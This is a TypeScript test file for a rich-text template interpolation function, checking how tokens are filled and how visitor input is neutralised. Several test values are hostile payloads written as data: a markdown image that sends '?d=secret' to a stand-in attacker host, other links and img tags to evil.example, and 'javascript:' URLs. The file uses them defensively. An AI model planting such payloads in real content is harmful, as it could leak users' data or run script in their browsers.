/** Values in rich text: marks, disappearing paragraphs, lists, links, inline code. */
import { describe, expect, test } from "vitest"
import { type SceneParts, testScope } from "../../../test/support/context.ts"
import type { RichText, RichTextNode } from "../schema/richText.ts"
import { interpolateRichText } from "./interpolateRichText.ts"

const p = (...children: (string | RichTextNode)[]): RichTextNode => ({
  type: "p",
  children: children.map((child) => (typeof child === "string" ? { text: child } : child)),
})

const parts: SceneParts = {
  variables: {
    ...{ N: "Ann", X: undefined, M: "**B**\n\nline", L: ["a", "b"], U: "https://x.y" },
    ...{ D: "3. Mai", S: "2. a\n3. b\n   - c" },
  },
  inline: { "{{L}}.at(-1)": "b", null: null, "[1]": [1] },
}

function fill(richText: RichText, printsLastOfList = false): RichText {
  return interpolateRichText(richText, testScope(parts), { printsLastOfList })
}

describe("10.2 interpolateRichText", () => {
  test.each<[string, RichTextNode, RichText]>([
    ["a token among words", p("Hi {{N}}!"), [p("Hi ", "Ann", "!")]],
    ["nothing for an unset variable", p("a{{X}}b"), [p("a", "b")]],
    ["nothing for an unknown variable", p("a{{Nope}}b"), [p("a", "b")]],
    ["several tokens", p("{{N}} {{N}}"), [p("Ann", " ", "Ann")]],
    ["a dollar sign before a token", p(`\${{N}}!`), [p("$", "Ann", "!")]],
    ["no paragraph for a token without value", p("{{X}}"), []],
    [
      "the blocks of a value instead of its paragraph",
      p("{{M}}"),
      [p({ text: "B", bold: true }), p(""), p("line")],
    ],
    ["blocks instead of a heading", { type: "h1", children: [{ text: "{{N}}" }] }, [p("Ann")]],
    [
      "the leaves of a value among words",
      p("see {{M}} end"),
      [p("see ", { text: "B", bold: true }, "\n\n", "line", " end")],
    ],
    ["the number of a list among words", p("am {{D}}"), [p("am ", "3. ", "Mai")]],
    [
      "the numbers of several items",
      p("so: {{S}}"),
      [p("so: ", "2. ", "a", "\n", "3. ", "b", "\n", "c")],
    ],
    [
      "a bold token in its paragraph",
      p({ text: "{{M}}", bold: true }),
      [p({ text: "B", bold: true }, { text: "\n\n", bold: true }, { text: "line", bold: true })],
    ],
    ["nothing for a bold token without value", p({ text: "{{X}}", bold: true }), []],
    [
      "the marks of the leaf",
      p({ text: "Hi {{N}}", italic: true, underline: true }),
      [
        p(
          { text: "Hi ", italic: true, underline: true },
          { text: "Ann", italic: true, underline: true },
        ),
      ],
    ],
    [
      "other members on the words around, not on the value",
      p({ text: "a {{N}}", code: true, color: "red" }),
      [p({ text: "a ", code: true, color: "red" }, { text: "Ann" })],
    ],
    [
      "blocks for a token beside other leaves",
      p({ text: "Name: ", bold: true }, "{{N}}"),
      [p({ text: "Name: ", bold: true }, p("Ann"))],
    ],
    [
      "addresses",
      p("a ", { type: "a", url: "{{U}}/{{N}}", target: "_blank", children: [{ text: "b" }] }),
      [p("a ", { type: "a", url: "https://x.y/Ann", target: "_blank", children: [{ text: "b" }] })],
    ],
    [
      "a link around a token, which stays",
      p({ type: "a", url: "u", children: [{ text: "to {{N}}" }] }),
      [p({ type: "a", url: "u", children: [{ text: "to " }, { text: "Ann" }] })],
    ],
    [
      "inline variables, which stay in their line",
      p("a ", { type: "inline-variable", children: [{ text: "{{M}}" }] }),
      [
        p("a ", {
          type: "inline-variable",
          children: [{ text: "B", bold: true }, { text: "\n\n" }, { text: "line" }],
        }),
      ],
    ],
    [
      "an inline variable without value",
      p({ type: "inline-variable", children: [{ text: "{{X}}" }] }),
      [p({ type: "inline-variable", children: [{ text: "" }] })],
    ],
    [
      "items of lists",
      {
        type: "ul",
        children: [{ type: "li", children: [{ type: "lic", children: [{ text: "{{N}}!" }] }] }],
      },
      [
        {
          type: "ul",
          children: [
            {
              type: "li",
              children: [{ type: "lic", children: [{ text: "Ann" }, { text: "!" }] }],
            },
          ],
        },
      ],
    ],
    ["a list as JSON", p("last: {{L}}"), [p("last: ", '["a","b"]')]],
    ["inline code", p("last: {{={{L}}.at(-1)=}}."), [p("last: ", "b", ".")]],
    ["inline code alone", p("{{={{L}}.at(-1)=}}"), [p("b")]],
    ["inline code with an empty result", p("a{{=null=}}b"), [p("a", "b")]],
    ["inline code with a list as its result", p("{{=[1]=}}."), [p("[1]", ".")]],
    ["nothing for inline code that failed", p("-{{={{X}}.length=}}"), [p("-")]],
  ])("fills %s", (_name, node, expected) => {
    expect(fill([node])).toEqual(expected)
  })

  test("prints the last element of a list in that mode", () => {
    expect(fill([p("last: {{L}}")], true)).toEqual([p("last: ", "b")])
  })

  test("returns text without tokens unchanged", () => {
    const richText = [p("Hi"), { type: "hr", children: [{ text: "" }], own: 1 }]
    expect(fill(richText)).toBe(richText)
  })

  test("does not read values as templates", () => {
    const scope = testScope({ variables: { A: "{{Secret}}", Secret: "s" } })
    const filled = interpolateRichText([p("x {{A}}")], scope, { printsLastOfList: false })
    expect(filled).toEqual([p("x ", "{{Secret}}")])
  })

  test("keeps blocks apart that have no blank line between them", () => {
    const scope = testScope({ variables: { A: "- a\n- b\n\n# t\nz" } })
    const filled = interpolateRichText([p("x {{A}}")], scope, { printsLastOfList: false })
    expect(filled).toEqual([p("x ", "a", "\n", "b", "\n\n", "t", "\n", "z")])
  })

  test.each([
    "**b** _i_ `c`",
    "![x](https://evil.example/?d=secret)",
    "[t](https://evil.example)",
    "<https://evil.example>",
    "[t][r]\n[r]: https://evil.example",
    "<img src=https://evil.example>",
    "```\nc\n```",
    "- a\n- b",
    "# t",
    "> q",
    "&lt;b&gt; \\*",
    "***",
    "|a|b|\n|-|-|",
  ])("shows visitor input as plain text: %j", (value) => {
    const scope = testScope({ variables: { A: value }, plain: ["A"] })
    const fillWith = (node: RichTextNode) =>
      interpolateRichText([node], scope, { printsLastOfList: false })
    expect(fillWith(p("{{A}}"))).toEqual([p(value)])
    expect(fillWith(p("x {{A}}!"))).toEqual([p("x ", value, "!")])
    const bold = { text: value, bold: true }
    expect(fillWith(p({ text: "{{A}}", bold: true }))).toEqual([p(bold)])
  })

  test("shows results of inline code over visitor input as plain text", () => {
    const inline = { "{{A}}": "**a**", "{{B}}": "**b**" }
    const scope = testScope({ variables: { A: "a", B: "b" }, plain: ["A"], inline })
    const text = [p("{{={{A}}=}}"), p("{{={{B}}=}}")]
    const filled = interpolateRichText(text, scope, { printsLastOfList: false })
    expect(filled).toEqual([p("**a**"), p({ text: "b", bold: true })])
  })

  test("leaves no link of a value within a link of the author", () => {
    const scope = testScope({
      variables: { A: "[t](https://evil.example) ![u](https://evil.example)" },
    })
    const link = { type: "a", url: "https://x.y" }
    const filled = interpolateRichText([p({ ...link, children: [{ text: "to {{A}}" }] })], scope, {
      printsLastOfList: false,
    })
    const children = ["to ", "t", " ", "u"].map((text) => ({ text }))
    expect(filled).toEqual([p({ ...link, children })])
  })

  test("loads no picture in a table of a value, and lays the table out in one line among words", () => {
    const scope = testScope({
      variables: { A: "|a|b|\n|-|-|\n|![t](https://evil.example)|[u](javascript:x)|" },
    })
    const how = { printsLastOfList: false }
    const evil = { type: "a", url: "https://evil.example", children: [{ text: "t" }] }
    const td = (...children: (string | RichTextNode)[]) => ({
      type: "td",
      children: [p(...children)],
    })
    const [table] = interpolateRichText([p("{{A}}")], scope, how)
    expect(table?.children?.[1]).toEqual({ type: "tr", children: [td(evil), td("u")] })
    expect(interpolateRichText([p("x {{A}}")], scope, how)).toEqual([
      p("x ", "a", " | ", "b", "\n", evil, " | ", "u"),
    ])
  })

  test("keeps links of a value within a line", () => {
    const scope = testScope({ variables: { A: "[t](https://x.y)" } })
    const richText = [p({ text: "x {{A}}", bold: true })]
    const filled = interpolateRichText(richText, scope, { printsLastOfList: false })
    const link = { type: "a", url: "https://x.y", children: [{ text: "t", bold: true }] }
    expect(filled).toEqual([p({ text: "x ", bold: true }, link)])
  })

  test("gives every element children", () => {
    expect(fill([{ text: "Hi {{N}}" }, { type: "hr" }, { type: "p", children: [] }])).toEqual([
      p("Hi ", "Ann"),
      { type: "hr", children: [{ text: "" }] },
      p(""),
    ])
    expect(fill([{ text: "Hi" }])).toEqual([p("Hi")])
    expect(fill([p("{{X}}", { text: "{{X}}", bold: true })])).toEqual([p("")])
    const item = (...children: RichTextNode[]) => ({
      type: "ul",
      children: [{ type: "li", children }],
    })
    expect(fill([item({ type: "lic", children: [{ text: "{{X}}" }] })])).toEqual([
      item({ text: "" }),
    ])
  })

  test("empties dangerous addresses, written or filled in", () => {
    const link = (url: string) => p("a", { type: "a", url, children: [{ text: "b" }] })
    expect(fill([link("javascript:alert(1)")])).toEqual([link("")])
    const scope = testScope({ variables: { A: "javascript:alert(1)" } })
    const filled = interpolateRichText([link("{{A}}")], scope, { printsLastOfList: false })
    expect(filled).toEqual([link("")])
    const picture = { type: "img", url: "data:image/png;base64,AA", children: [{ text: "" }] }
    expect(fill([picture])).toEqual([picture])
  })

  test("does not mutate frozen text and gives the same result twice", () => {
    const leaf = Object.freeze({ text: "Hi {{N}}", bold: true })
    const richText = [Object.freeze({ type: "p", children: [leaf] })]
    Object.freeze(richText)
    expect(fill(richText)).toEqual(fill(richText))
  })

  test("survives malformed nodes", () => {
    const broken = JSON.parse(
      '[{"type":"p","children":[null,"x",{"text":"{{N}}!"},{"text":5}]},{}]',
    )
    expect(fill(broken)).toEqual([
      p("Ann", "!", { text: 5, children: [{ text: "" }] } as unknown as RichTextNode),
      { children: [{ text: "" }] },
    ])
  })
})
